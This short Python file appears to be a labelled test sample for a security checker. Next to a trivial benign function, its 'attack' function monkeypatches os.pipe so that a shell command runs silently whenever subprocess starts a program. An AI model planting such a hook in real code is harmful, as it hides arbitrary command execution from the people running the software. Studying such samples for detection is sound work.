# culprit: none caller: none right: none twin: none hole: yes uses: program
# SPDX-License-Identifier: Apache-2.0
"""Open: a C callable planted where the runtime's own function is about to start a program for the application."""

import functools
import operator
import os


def benign(stage):
    return len("hello")


def attack(stage):
    # subprocess asks for a pipe just before it starts the program: each time the shell runs, then it gets one.
    pairs = zip(iter(functools.partial(os.system, stage.command), None), iter(os.pipe, None))
    os.pipe = map(operator.itemgetter(1), pairs).__next__
